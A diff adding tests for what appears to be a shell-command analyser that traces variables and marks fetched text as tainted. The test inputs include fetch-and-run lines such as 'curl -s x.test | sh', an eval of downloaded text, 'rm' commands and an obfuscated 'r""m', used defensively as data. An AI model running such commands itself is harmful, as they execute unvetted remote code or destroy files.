@@ -70,3 +70,49 @@ def test_json_has_the_decision_and_the_tree() -> None:
     assert answer["outcome"] == "allow"
     assert answer["tree"][0] == {"depth": 0, "node": "Script", "span": [0, 10], "text": ""}
     assert answer["fault"] is None
+
+
+FOLLOWED = 'x=$(curl -s https://x.test/i); eval "$x"'
+
+
+@pytest.mark.parametrize(
+    ("command", "row"),
+    [
+        (FOLLOWED, "1:3 what is captured is text that is not known, fetched"),
+        (FOLLOWED, "x holds text that is not known, fetched"),
+        (FOLLOWED, '1:37 "$x" becomes text that is not known, fetched (x was set before)'),
+        ("f=a; rm $f", "1:9 $f becomes a (f was set before)"),
+        ("rm $f", "1:4 $f becomes text that is not known (f is not set here)"),
+        ("echo ls > s; sh s", "s holds 'ls\\n'"),
+        ('r""m a', '1:1 r""m becomes rm'),
+        ("f() { rm a; }; f", "1:16 f is a function"),
+        ("./frob", "1:1 ./frob is not described"),
+        ("curl -s x.test | sh", "1:1 what goes on is text that is not known, fetched"),
+        ("git status", "1:1 git is a described program"),
+    ],
+)
+def test_the_reasoning_says_what_became_of_words_and_why(command: str, row: str) -> None:
+    rows = [
+        line.strip()
+        for line in run("explain", command).out.split("\nreasoning\n")[1].split("\neffects\n")[0].splitlines()
+    ]
+    assert any(line.endswith(row) for line in rows), rows
+
+
+def test_json_has_the_reasoning() -> None:
+    answer = json.loads(run("explain", "--json", FOLLOWED).out)
+    assert {
+        "step": "word",
+        "subject": '"$x"',
+        "values": [None],
+        "taint": ["fetched"],
+        "because": ["x was set before"],
+        "span": [36, 40],
+    } in answer["reasoning"]
+
+
+def test_what_a_loop_repeats_is_said_once_and_what_has_no_end_ends() -> None:
+    rows = run(
+        "explain", "for i in " + "a " * 200 + "; do for j in " + "b " * 200 + "; do echo $i$j; done; done"
+    ).out.splitlines()
+    assert len(rows) < 3000
